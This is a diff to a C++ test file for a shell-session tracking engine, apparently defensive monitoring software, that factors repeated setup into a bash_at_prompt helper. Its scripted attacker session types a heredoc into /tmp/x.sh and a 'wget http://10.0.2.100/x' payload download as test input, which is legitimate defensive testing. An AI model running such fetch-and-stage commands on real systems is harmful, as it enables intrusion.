@@ -207,6 +207,17 @@ struct Rig {
 };
 constexpr int kMaster = 7, kSock = 4;
 
+// A client at 10.0.0.d:port connects, the server's fork opens a pty and its child runs bash, which
+// prints its prompt: what every interactive test starts from.
+void bash_at_prompt(Guest& g, std::uint8_t d, std::uint16_t port) {
+  g.accept(kServer, kSock, sockaddr_in(10, 0, 0, d, port));
+  g.fork(kServer, kConn);
+  g.open(kConn, "/dev/ptmx", 2, kMaster);
+  g.fork(kConn, kShell);
+  g.exec(kShell, "/bin/bash", {"-bash"});
+  g.read(kConn, kMaster, "root@lab:~# ");
+}
+
 // The whole interactive session of the scripted attacker, as dropbear and a shell make it.
 void scripted_session(Guest& g, Tracker& t) {
   g.accept(kServer, kSock, sockaddr_in(10, 0, 2, 2, 51234));
@@ -604,12 +615,7 @@ TEST(SessionEngine, ClientGoneBeforeLogoutIsDroppedAndWrongPasswordsAreFailed) {
 TEST(SessionEngine, LinesAtTheSecondaryPromptContinueTheCommand) {
   Rig r;
   auto& [dir, t, g] = r;
-  g.accept(kServer, kSock, sockaddr_in(10, 0, 0, 7, 7777));
-  g.fork(kServer, kConn);
-  g.open(kConn, "/dev/ptmx", 2, kMaster);
-  g.fork(kConn, kShell);
-  g.exec(kShell, "/bin/bash", {"-bash"});
-  g.read(kConn, kMaster, "root@lab:~# ");
+  bash_at_prompt(g, 7, 7777);
   g.type(kConn, kMaster, "cat > /tmp/x.sh <<EOF\r", "cat > /tmp/x.sh <<EOF\r\n");
   g.read(kConn, kMaster, "> ");
   g.type(kConn, kMaster, "wget http://10.0.2.100/x\r", "wget http://10.0.2.100/x\r\n");
@@ -654,12 +660,7 @@ TEST(SessionEngine, LinesAtTheSecondaryPromptContinueTheCommand) {
 TEST(SessionEngine, APipelineForkedBeforeItsEnterReturnsLeavesThePreviousCommandItsStatus) {
   Rig r;
   auto& [dir, t, g] = r;
-  g.accept(kServer, kSock, sockaddr_in(10, 0, 0, 8, 8888));
-  g.fork(kServer, kConn);
-  g.open(kConn, "/dev/ptmx", 2, kMaster);
-  g.fork(kConn, kShell);
-  g.exec(kShell, "/bin/bash", {"-bash"});
-  g.read(kConn, kMaster, "root@lab:~# ");
+  bash_at_prompt(g, 8, 8888);
   std::uint64_t enter = g.now;
   g.fork(kShell, 400);
   g.next_entry_ns = enter;
